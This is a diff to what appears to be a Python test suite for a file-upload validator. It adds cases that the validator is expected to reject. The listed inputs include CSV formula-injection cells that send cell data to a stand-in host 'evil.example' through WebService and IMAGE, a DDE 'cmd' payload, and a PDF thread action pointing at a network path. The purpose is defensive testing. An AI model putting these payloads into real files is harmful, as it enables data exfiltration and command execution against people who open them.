@@ -39,6 +39,8 @@ LATER_STEPS = {
     "after steps without an end": steps_without_end,
     "as a thread": lambda: root(OpenAction=action("Thread", F=String("\\\\evil\\a.pdf"))),
 }
+# Each could be the address of a picture that a formula loads; a bare name could not, in a table.
+ADDRESSES = ['""https://evil.example""', "$B$2", "Sheet1!A1", " (A1)", "_xlfn.CONCAT(A1;A2)", "A:A", '{""x""}']
 # What it is, the name it comes under, how to build it, why it is refused.
 HOSTILE = [
     ("nothing at all", "a.pdf", bytes, Fault.EMPTY),
@@ -66,6 +68,11 @@ HOSTILE = [
     ("a program far into its cell", "a.csv", lambda: b"=1+" + b"1+" * 40_000 + b"cmd|' /C calc'!A0\n", Fault.DDE),
     ("a cell that asks a server", "a.csv", lambda: b'a\n"=WebService(""https://evil.example/""&A1)"\n', Fault.LOADS),
     ("a cell that loads a page", "a.csv", lambda: b"a;b\n1;=IMPORTXML(A1;A2)\n", Fault.LOADS),
+    ("a cell that loads what a name says", "a.csv", lambda: b"=1+_xlfn.IMAGE(front)\n", Fault.LOADS),
+    *(
+        (f"a picture by {address}", "a.csv", lambda address=address: f'"-IMAGE({address})"\n'.encode(), Fault.LOADS)
+        for address in ADDRESSES
+    ),
     ("an archive behind a PDF", "a.pdf", lambda: pdf() + ARCHIVE, Fault.TWO_FILES),
     ("a page behind a PDF", "a.pdf", lambda: pdf() + SCRIPT_PAGE, Fault.TWO_FILES),
     (
